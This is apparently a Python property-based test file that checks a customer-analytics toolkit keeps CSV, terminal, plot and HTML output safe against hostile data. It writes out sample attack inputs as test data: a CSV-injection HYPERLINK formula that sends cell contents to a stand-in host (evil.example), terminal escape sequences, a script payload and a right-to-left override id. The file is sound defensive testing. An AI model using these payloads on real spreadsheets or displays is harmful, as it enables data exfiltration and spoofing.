"""Output encoding as one policy: every CSV the toolkit writes holds text that starts as a formula behind a leading `'`
(numbers stay numbers), every terminal string from data shows as written (no rich markup, no control characters),
every plot label from data is drawn literally, and HTML stays escaped. The properties draw ids, values and column names
with hypothesis; `CARELENS_FUZZ_EXAMPLES` sets the examples per property (`make fuzz`: 10,000)."""
import csv
import html
import io
import json
import os
import re

import numpy as np
import pandas as pd
import pytest
import typer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.cells import cell_len
from typer.testing import CliRunner

from carelens.data.contracts import ContractError
from carelens.data.html import figure_html, table_html
from carelens.data.spreadsheet import FORMULA_STARTS, inert
from carelens.data.synthetic import generate, write_synthetic
from carelens.data.terminal import (
    LiteralConsole, console, error_console, escaped, in_one_direction, rows_table, user_errors, warn,
)
from carelens.inference.cli import app
from carelens.inference.featurize import written_features
from carelens.inference.nightly.flags import write_flagged_csv
from carelens.inference.nightly.layout import FLAGGED_CSV
from carelens.inference.nightly.summary import drift_figure
from carelens.inference.predict import written
from carelens.inference.score import top_table
from carelens.inference.reasons import evidence_text
from carelens.inference.selection import FLAG_COLUMNS
from carelens.models.conversation_features import FEATURE_COLUMNS, KEYS
from carelens.models.registry import Registry
from carelens.training.report import histogram_figure, importance_figure
from carelens.training.tabular import TASKS, load_labelled, publish_tabular, train_tabular

EXAMPLES = int(os.environ.get("CARELENS_FUZZ_EXAMPLES", 20))
fuzz = settings(max_examples=EXAMPLES, deadline=None, print_blob=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])
# Any code point, lone surrogates included, and the strings these attacks are made of.
ANY_CHARACTER = st.characters(exclude_categories=())
HOSTILE = st.sampled_from(['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                           "[vip]", "[/]", "[bold red]x", "12 s [/]", ":smile:", "\x1b[2J\x1b]0;pwned\x07", "\x00",
                           "\ud800", "spend_$10_$20", "$x^$", "\\$", "<script>alert(1)</script>", "a,b\n\"c\"", ""])
TEXT = st.one_of(HOSTILE, st.text(ANY_CHARACTER, max_size=24),
                 st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text(max_size=8)))
NUMBER = st.one_of(st.floats(allow_nan=False, allow_infinity=False, width=32), st.integers(-10 ** 6, 10 ** 6))
runner = CliRunner()
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def as_written(text: str) -> str:
    """What a CSV file holds of a text cell: inert, lone surrogates as their escapes."""
    return inert(text).encode("utf-8", "backslashreplace").decode("utf-8")


def csv_rows(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_inert_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _number(cell), (cell, row)


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


# -- CSV: every writer ----------------------------------------------------------------------------------------------

@st.composite
def flagged_frames(draw) -> pd.DataFrame:
    rows = draw(st.integers(1, 4))
    return pd.DataFrame({
        "customer_id": draw(st.lists(TEXT, min_size=rows, max_size=rows)),
        "churn_risk": draw(st.lists(NUMBER, min_size=rows, max_size=rows)),
        "retaliation_risk": draw(st.lists(NUMBER, min_size=rows, max_size=rows)),
        "retaliation_type": draw(st.lists(TEXT, min_size=rows, max_size=rows)),
        "reasons": [draw(st.lists(TEXT, max_size=3)) for _ in range(rows)],
        "action": draw(st.lists(TEXT, min_size=rows, max_size=rows)),
        "risk": draw(st.lists(NUMBER, min_size=rows, max_size=rows)),
        "contact_id": draw(st.lists(TEXT, min_size=rows, max_size=rows)),
        "agent_id": draw(st.lists(st.one_of(st.none(), TEXT), min_size=rows, max_size=rows)),
        "evidence": [[{"reason": draw(TEXT), "turn": draw(st.integers(0, 50)), "speaker": "customer",
                       "quote": draw(TEXT)} for _ in range(draw(st.integers(0, 2)))] for _ in range(rows)],
        "inferred_csat": draw(st.lists(st.one_of(st.none(), st.floats(1, 5)), min_size=rows, max_size=rows)),
    }, columns=FLAG_COLUMNS, dtype=object).astype({"churn_risk": float, "retaliation_risk": float, "risk": float})


@st.composite
def keyed_frames(draw, keys: list[str], numbers: list[str]) -> pd.DataFrame:
    """Text keys, numbers (negative ones too) and one more column under any name holding text or numbers."""
    rows = draw(st.integers(1, 4))
    columns = {**{key: pd.Series(draw(st.lists(TEXT, min_size=rows, max_size=rows)), dtype=object) for key in keys},
               **{name: pd.Series(draw(st.lists(NUMBER, min_size=rows, max_size=rows)), dtype=float)
                  for name in numbers}}
    columns.setdefault(draw(TEXT), pd.Series(draw(st.lists(st.one_of(TEXT, NUMBER), min_size=rows, max_size=rows)),
                                             dtype=object))
    # Built column by column under an object index: pandas' Arrow strings cannot hold a lone surrogate.
    frame = pd.concat(list(columns.values()), axis=1, ignore_index=True)
    frame.columns = pd.Index(list(columns), dtype=object)
    return frame


def flagged_csv(frame: pd.DataFrame, tmp_path) -> tuple[pd.DataFrame, object]:
    write_flagged_csv(frame, tmp_path / FLAGGED_CSV)
    evidence = pd.Series([evidence_text(cited) for cited in frame["evidence"]], index=frame.index, dtype=object)
    return frame.assign(reasons=frame["reasons"].str.join("; "), evidence=evidence), tmp_path / FLAGGED_CSV


def predicted_csv(frame: pd.DataFrame, tmp_path) -> tuple[pd.DataFrame, object]:
    return frame, written(frame, tmp_path / "predicted.csv")


def features_csv(frame: pd.DataFrame, tmp_path) -> tuple[pd.DataFrame, object]:
    return frame, written_features(frame, tmp_path / "features.csv", "v1")


WRITERS = {
    "nightly flagged.csv": (flagged_csv, flagged_frames()),
    "carelens predict --out x.csv": (predicted_csv, keyed_frames(["customer_id", "contact_id"],
                                                                 ["risk", "p_escalate"])),
    "carelens featurize --out x.csv": (features_csv, keyed_frames(KEYS, FEATURE_COLUMNS[:4])),
}


@pytest.mark.parametrize("writer", WRITERS)
@fuzz
@given(data=st.data())
def test_property_csv_writers_keep_text_inert_and_numbers_numbers(tmp_path_factory, writer, data):
    write, frames = WRITERS[writer]
    frame = data.draw(frames)
    shown, path = write(frame, tmp_path_factory.mktemp("csv"))
    header, *rows = csv_rows(path)
    assert header == [as_written(str(name)) for name in shown.columns]
    assert len(rows) == len(shown)
    for row, (_, original) in zip(rows, shown.iterrows()):
        for cell, value in zip(row, original.tolist()):
            if isinstance(value, str):
                assert cell == as_written(value)
            elif value is None:
                assert cell == ""
            else:  # a number, negative ones too, stays a number
                assert float(cell) == pytest.approx(float(value), rel=1e-6, abs=1e-30)


# -- CSV, terminal: the examples, end to end ------------------------------------------------------------------------

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2", "@SUM(A1)", "[vip]", "a[/]b"]


@pytest.fixture(scope="module")
def hostile_day(tmp_path_factory):
    """A synthetic day whose first customers have the attacking ids, in the interactions and the transcripts."""
    day = generate(30, seed=21)
    renamed = dict(zip(day.interactions["customer_id"].drop_duplicates(), ATTACKS))
    day.interactions["customer_id"] = day.interactions["customer_id"].replace(renamed)
    day.conversations = [{**c, "customer_id": renamed.get(c["customer_id"], c["customer_id"])}
                         for c in day.conversations]
    folder = tmp_path_factory.mktemp("hostile")
    write_synthetic(day, folder)
    return folder


def test_nightly_writes_formula_ids_as_text_and_shows_markup_ids_as_written(registry_with_models, hostile_day,
                                                                            tmp_path):
    result = runner.invoke(app, ["nightly", "--transcripts", str(hostile_day / "transcripts.jsonl"), "--interactions",
                                 str(hostile_day / "interactions.parquet"), "--out", str(tmp_path / "run"),
                                 "--registry", str(registry_with_models.root), "--threshold", "0", "--top", "40",
                                 "--no-progress"])
    assert result.exit_code == 0, result.output
    ids = [row[0] for row in csv_rows(tmp_path / "run" / FLAGGED_CSV)[1:]]
    assert {inert(attack) for attack in ATTACKS} <= set(ids)
    assert_inert_cells(csv_rows(tmp_path / "run" / FLAGGED_CSV))
    assert "[vip]" in result.output and "a[/]b" in result.output


def test_predict_csv_holds_formula_keys_as_text_and_negative_numbers_as_numbers(registry_with_models, hostile_day,
                                                                                tmp_path):
    table = pd.read_parquet(hostile_day / "interactions.parquet")
    features = pd.DataFrame(np.full((len(table), len(FEATURE_COLUMNS)), -0.5), columns=FEATURE_COLUMNS)
    data = tmp_path / "day.parquet"
    pd.concat([table, features], axis=1).to_parquet(data)
    result = runner.invoke(app, ["predict", "churn", "--registry", str(registry_with_models.root), "--data", str(data),
                                 "--out", str(tmp_path / "risk.csv")])
    assert result.exit_code == 0, result.output
    rows = csv_rows(tmp_path / "risk.csv")
    assert_inert_cells(rows)
    assert {inert(attack) for attack in ATTACKS} <= {row[0] for row in rows[1:]}


def test_featurize_csv_holds_formula_ids_as_text(registry_with_models, hostile_day, tmp_path):
    result = runner.invoke(app, ["featurize", "--registry", str(registry_with_models.root), "--transcripts",
                                 str(hostile_day / "transcripts.jsonl"), "--out", str(tmp_path / "f.csv"),
                                 "--no-progress"])
    assert result.exit_code == 0, result.output
    rows = csv_rows(tmp_path / "f.csv")
    assert_inert_cells(rows)
    customer = rows[0].index("customer_id")
    talked = {json.loads(line)["customer_id"] for line in (hostile_day / "transcripts.jsonl").open()}
    assert {inert(attack) for attack in ATTACKS if attack in talked} <= {row[customer] for row in rows[1:]}
    assert len(set(ATTACKS) & talked) >= 3
    numbers = [float(row[rows[0].index("customer_sentiment_shift")]) for row in rows[1:]]
    assert any(n < 0 for n in numbers), "a negative feature is written as a number"


def test_an_error_quoting_markup_exits_2_with_the_message(capsys):
    with pytest.raises(typer.Exit) as ended:
        with user_errors():
            raise ContractError("day.csv", "got '12 s [/]', expected a finite number >= 0", row=4,
                                column="answer_time_s")
    assert ended.value.exit_code == 2
    assert "day.csv: row 4, column 'answer_time_s': got '12 s [/]'" in capsys.readouterr().err


def test_a_csv_cell_with_markup_exits_2_from_the_command_line(registry_with_models, tmp_path):
    table = pd.read_parquet(registry_with_models.day_dir / "interactions.parquet").astype({"answer_time_s": object})
    table.loc[2, "answer_time_s"] = "12 s [/]"
    table.to_csv(tmp_path / "day.csv", index=False)
    result = runner.invoke(app, ["predict", "churn", "--registry", str(registry_with_models.root), "--data",
                                 str(tmp_path / "day.csv"), "--out", str(tmp_path / "risk.csv")])
    assert result.exit_code == 2, result.output
    assert "row 4, column 'answer_time_s': got '12 s [/]'" in result.output


# -- terminal: every printer -----------------------------------------------------------------------------------------

def printed(renderable) -> str:
    wide = LiteralConsole(file=io.StringIO(), width=2_000)
    wide.print(renderable)
    return wide.file.getvalue()


@fuzz
@given(ids=st.lists(TEXT, min_size=1, max_size=3), reason=TEXT)
def test_property_terminal_tables_show_ids_as_written(ids, reason):
    flagged = pd.DataFrame({"customer_id": ids, "churn_risk": 0.5, "retaliation_risk": 0.25,
                            "retaliation_type": reason, "action": reason, "reasons": [[reason]] * len(ids)},
                           dtype=object)
    for table in (top_table(flagged, len(ids)), rows_table([{"id": i, reason or "x": reason} for i in ids], "t")):
        shown = printed(table)
        assert not CONTROL.search(shown.replace("\n", "")), repr(shown)
        for text in [*ids, reason]:
            if text.isprintable() and "\\" not in text and len(text) < 20:
                # Text of only zero-width characters (a lone emoji modifier) shows as its escapes rather than vanish.
                assert (text.strip() if cell_len(text) else escaped(text)) in shown


@fuzz
@given(message=TEXT)
def test_property_errors_and_warnings_show_data_as_written(capsys, message):
    warn(message)
    with pytest.raises(typer.Exit):
        with user_errors():
            raise ContractError("f.csv", f"got {message}, expected a number")
    err = capsys.readouterr().err
    assert not CONTROL.search(err.replace("\n", "")), repr(err)
    if message.isprintable() and "\\" not in message and message.strip():
        assert f"got {message}, expected" in err
        # The warning is the message alone: of only zero-width characters it shows as its escapes, not as nothing.
        assert err.count(message.strip()) >= 2 if cell_len(message) else escaped(message) in err


def test_the_consoles_read_no_markup():
    assert not console._markup and not error_console._markup


# -- plots and HTML: every label from data -----------------------------------------------------------------------

def test_a_column_named_with_dollars_keeps_the_trained_model(tmp_path):
    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"spend_$10_$20": rng.normal(size=300), "$x^$": rng.integers(0, 3, 300),
                          "Left": rng.choice(["yes", "no"], 300)})
    frame.to_csv(tmp_path / "own.csv", index=False)
    task = TASKS["churn"]
    trained = train_tabular(load_labelled(tmp_path / "own.csv", task, target="Left"), task, rounds=5, trees=10,
                            spread_seeds=1)
    artifact = publish_tabular(trained, Registry(tmp_path / "registry"))
    report = (artifact.path / "report.html").read_text()
    assert "spend_$10_$20" in report


@fuzz
@given(names=st.lists(TEXT, min_size=1, max_size=3, unique=True), classes=st.lists(TEXT, min_size=2, max_size=2,
                                                                                   unique=True))
def test_property_report_figures_draw_any_label(names, classes):
    importance = [{"feature": name, "ROC-AUC drop": 0.01 * i, "std": 0.001} for i, name in enumerate(names)]
    drift = {"feature": names[0], "psi": 0.3, "training": {name: 0.5 for name in names},
             "tonight": {name: 0.5 for name in names}}
    labels = np.array(classes * 5, dtype=object)
    for figure in (importance_figure(importance), drift_figure(drift),
                   histogram_figure(labels, np.linspace(0, 1, len(labels)), 0.5)):
        assert figure_html(figure).startswith("<img")


@fuzz
@given(keys=st.lists(TEXT, min_size=1, max_size=3), values=st.lists(TEXT, min_size=1, max_size=3))
def test_property_html_tables_escape_data(keys, values):
    row = dict(zip(keys, values))
    page = table_html([row])
    stripped = re.sub(r"</?(table|thead|tbody|tr|th|td)( class=\"n\")?>", "", page)
    assert "<" not in stripped and ">" not in stripped
    for text in [*row, *row.values()]:
        assert html.escape(in_one_direction(text)) in page  # direction controls show as their escapes


# -- direction controls: data that would reorder what is shown -------------------------------------------------------

#: An id with a right-to-left override: shown raw, `\u202eK12-0003` reads as `3000-21K` ("Trojan Source").
REVERSED_ID = "\u202eK12-0003\u2066x\u2069\u200f"


def test_terminal_tables_show_direction_controls_as_escapes():
    shown = printed(rows_table([{"customer_id": REVERSED_ID}], "t"))
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f]", shown), repr(shown)
    assert escaped(REVERSED_ID) in shown


def test_html_pages_show_direction_controls_as_escapes():
    from carelens.data.html import html_report
    from carelens.inference.nightly.summary import SummaryPage, nightly_summary
    flagged = pd.DataFrame({"customer_id": [REVERSED_ID], "churn_risk": [0.9], "retaliation_risk": [0.1],
                            "retaliation_type": [""], "action": ["call"], "reasons": [[REVERSED_ID]],
                            "risk": [0.9], "contact_id": ["k"], "agent_id": [REVERSED_ID],
                            "evidence": [[{"reason": REVERSED_ID, "turn": 1, "speaker": "agent", "quote": REVERSED_ID}]]})
    card = pd.DataFrame({"agent_id": [REVERSED_ID], "contacts": [1], "customers": [1], "flagged_share": [1.0],
                         "coaching": [REVERSED_ID]})
    pages = [table_html([{REVERSED_ID: REVERSED_ID}]), html_report(REVERSED_ID, [(REVERSED_ID, "")]),
             nightly_summary(SummaryPage(flagged, flagged, pd.DataFrame({"x": []}), [], warnings=[REVERSED_ID],
                                         agents=card, drivers=pd.DataFrame({
                                             "driver": [REVERSED_ID], "contacts": [1], "share": [1.0],
                                             "flagged_share": [1.0], "mean_risk": [0.9]})))]
    for page in pages:
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f]", page)
        assert html.escape(escaped(REVERSED_ID)) in page
